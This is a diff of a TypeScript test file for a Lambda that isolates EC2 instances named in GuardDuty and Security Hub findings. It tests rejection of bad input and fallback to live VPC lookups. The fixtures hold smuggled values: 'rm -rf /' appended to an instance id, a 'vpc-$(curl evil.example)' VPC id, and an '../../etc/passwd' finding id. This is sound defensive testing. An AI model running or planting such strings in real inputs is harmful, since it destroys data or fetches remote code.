@@ -1,7 +1,12 @@
-import { DescribeInstancesCommand, DescribeSecurityGroupsCommand } from '@aws-sdk/client-ec2';
+import {
+  DescribeInstancesCommand,
+  DescribeSecurityGroupsCommand,
+  ModifyNetworkInterfaceAttributeCommand,
+} from '@aws-sdk/client-ec2';
 import { handler } from '../../../lambdas/isolate-ec2';
+import noInterfaceIds from '../../fixtures/guardduty/ec2-no-interface-ids.json';
 import { createMocks, sentActions } from '../../support/aws';
-import { arrange, guardDutyEvent, INSTANCE, securityHubEvent, sent, VPC_A } from './support';
+import { arrange, ENIS, guardDutyEvent, INSTANCE, securityHubEvent, sent, VPC_A } from './support';
 
 const mocks = createMocks();
 
@@ -70,17 +75,6 @@ describe('isolate-ec2: bad input', () => {
       gd((e) => set(e.detail.resource.instanceDetails, 'instanceId', 'i-0a1b2c3d; rm -rf /')),
       'detail.resource.instanceDetails.instanceId',
     ],
-    [
-      'a shell-like VPC id',
-      gd((e) =>
-        set(
-          e.detail.resource.instanceDetails.networkInterfaces[0] ?? {},
-          'vpcId',
-          'vpc-$(curl evil.example)',
-        ),
-      ),
-      'detail.resource.instanceDetails.networkInterfaces[0].vpcId',
-    ],
     ['a hostile finding id', gd((e) => set(e.detail, 'id', '../../etc/passwd\n')), 'detail.id'],
     ['a short account id', gd((e) => set(e.detail, 'accountId', '2222')), 'detail.accountId'],
     [
@@ -119,13 +113,6 @@ describe('isolate-ec2: bad input', () => {
         ),
       ),
       'detail.findings[0].Resources[0].Id',
-    ],
-    [
-      'a VPC id of the wrong type in the ASFF details',
-      sh((e) =>
-        set(e.detail.findings[1]?.Resources[0]?.Details.AwsEc2Instance ?? {}, 'VpcId', ['vpc-1']),
-      ),
-      'detail.findings[1].Resources[0].Details.AwsEc2Instance.VpcId',
     ],
   ])('rejects %s naming the field, with no AWS call at all', async (_title, event, path) => {
     // Act
@@ -206,5 +193,71 @@ describe('isolate-ec2: Security Hub resource ids', () => {
       Name: 'vpc-id',
       Values: [VPC_A],
     });
+  });
+});
+
+describe('isolate-ec2: hints in the finding', () => {
+  it('isolates an instance of an older finding whose interfaces have no networkInterfaceId', async () => {
+    // Arrange
+    arrange(mocks, { groups: 'clean' });
+    const event = structuredClone(noInterfaceIds);
+
+    // Act
+    const { outcomes } = await handler(event);
+
+    // Assert: the live read names the interfaces; every one of them is moved
+    expect(outcomes[0]).toMatchObject({ status: 'contained', resource: INSTANCE });
+    const moved = sent(mocks.ec2, ModifyNetworkInterfaceAttributeCommand).map(
+      (m) => m.NetworkInterfaceId,
+    );
+    expect(new Set(moved)).toEqual(new Set(ENIS.map((e) => e.id)));
+  });
+
+  it.each<[string, unknown]>([
+    [
+      'a shell-like GuardDuty VPC id',
+      gd((e) =>
+        set(
+          e.detail.resource.instanceDetails.networkInterfaces[0] ?? {},
+          'vpcId',
+          'vpc-$(curl evil.example)',
+        ),
+      ),
+    ],
+    [
+      'a GuardDuty sample placeholder VPC id on a real finding',
+      gd((e) => {
+        for (const n of e.detail.resource.instanceDetails.networkInterfaces) {
+          set(n, 'vpcId', 'GeneratedFindingVPCId');
+        }
+      }),
+    ],
+    [
+      'GuardDuty interfaces that are not a list',
+      gd((e) =>
+        set(e.detail.resource.instanceDetails, 'networkInterfaces', 'eni-0a00000000000a001'),
+      ),
+    ],
+    [
+      'an ASFF VPC id of the wrong type',
+      sh((e) => {
+        e.detail.findings = e.detail.findings.slice(0, 1);
+        set(e.detail.findings[0]?.Resources[0]?.Details.AwsEc2Instance ?? {}, 'VpcId', ['vpc-1']);
+      }),
+    ],
+  ])('drops %s as a hint and isolates from the live read', async (_title, event) => {
+    // Arrange
+    arrange(mocks, { groups: 'clean' });
+
+    // Act
+    const { outcomes } = await handler(event);
+
+    // Assert: no lookup ever names the malformed VPC; the live VPCs are used
+    expect(outcomes[0]?.status).toBe('contained');
+    const filtered = sent(mocks.ec2, DescribeSecurityGroupsCommand).flatMap(
+      (c) => c.Filters?.find((f) => f.Name === 'vpc-id')?.Values ?? [],
+    );
+    expect(filtered.every((v) => /^vpc-[0-9a-f]{8,17}$/.test(v))).toBe(true);
+    expect(sent(mocks.ec2, ModifyNetworkInterfaceAttributeCommand).length).toBeGreaterThan(0);
   });
 });
